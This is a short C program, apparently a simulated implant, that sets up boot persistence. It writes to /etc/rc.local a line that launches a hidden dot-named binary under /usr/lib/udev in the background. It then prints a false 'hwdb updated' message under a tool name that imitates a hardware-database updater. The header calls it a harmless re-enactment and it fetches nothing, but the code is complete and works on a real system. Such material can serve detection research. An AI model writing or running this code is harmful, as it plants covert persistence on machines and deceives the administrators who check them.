/* hwdb-upd: harmless re-enactment of an implant making itself come back at boot. It appends a
 * line to /etc/rc.local (created with a shebang if missing) that starts the hidden binary
 * /usr/lib/udev/.kudevd in the background. Nothing is fetched; nothing loops. */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static const char SHEBANG[] = "#!/bin/sh\n";
static const char LINE[] = "/usr/lib/udev/.kudevd >/dev/null 2>&1 &\n";

int main(void) {
    int fd = open("/etc/rc.local", O_WRONLY | O_CREAT | O_EXCL, 0755);
    if (fd >= 0) {
        if (write(fd, SHEBANG, strlen(SHEBANG)) < 0) perror("write");
        close(fd);
    }
    fd = open("/etc/rc.local", O_WRONLY | O_APPEND);
    if (fd < 0) {
        perror("hwdb-upd: rc.local");
        return 1;
    }
    ssize_t n = write(fd, LINE, strlen(LINE));
    close(fd);
    chmod("/etc/rc.local", 0755);
    printf("hwdb-upd: hwdb updated (%zd)\n", n);
    return 0;
}
